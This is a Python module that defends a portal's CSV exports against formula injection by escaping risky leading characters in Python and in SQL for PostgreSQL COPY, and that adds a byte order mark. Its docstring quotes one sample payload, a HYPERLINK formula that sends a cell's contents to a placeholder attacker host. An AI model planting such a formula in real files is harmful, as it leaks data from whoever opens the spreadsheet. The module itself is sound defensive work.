"""What every CSV the portal produces shares: cells a spreadsheet cannot run, and a BOM.

ASVS 1.2.10 (CSV and formula injection): a spreadsheet runs a cell that begins with ``=``, ``+``,
``-`` or ``@`` (and, in some, after a tab or carriage return) as a formula, so a user named
``=HYPERLINK("http://evil/?"&A1)`` would run on the reviewer's machine. OWASP's advice: such a cell
gets a leading apostrophe, which the spreadsheet shows as text and does not print. One rule, two
spellings: ``cell`` for rows Python writes, ``sql_cell`` for rows PostgreSQL's COPY writes (COPY
cannot change a cell, so the query does); tests/test_input_output.py reads both back as a
spreadsheet would.

ASVS 5.x / 1.3 (the file says what it is): every CSV starts with a UTF-8 byte order mark, without
which Excel takes the file for the local code page and shows "NguyÃ¡»…n" for Nguyễn.
"""

import json

BOM = "\ufeff"
BOM_BYTES = BOM.encode("utf-8")

FORMULA_START = ("=", "+", "-", "@", "\t", "\r")


def cell(value) -> str:
    """One value as a CSV cell: empty for None, a dict as JSON, a would-be formula as text."""
    if value is None:
        return ""
    if isinstance(value, dict):
        return json.dumps(value, sort_keys=True, ensure_ascii=False) if value else ""
    text = str(value)
    return f"'{text}" if text.startswith(FORMULA_START) else text


def row(values) -> list[str]:
    return [cell(value) for value in values]


# PostgreSQL and SQLite (the demo) both read this: substr, and the tab and carriage return as they are.
_SQL_STARTS = ", ".join(f"'{char}'" for char in FORMULA_START)


def sql_cell(expression: str) -> str:
    """SQL that makes the text column ``expression`` the cell ``cell`` would write, for a query whose
    rows reach the file without Python (PostgreSQL's COPY)."""
    return f"CASE WHEN substr({expression}, 1, 1) IN ({_SQL_STARTS}) THEN '''' || {expression} ELSE {expression} END"
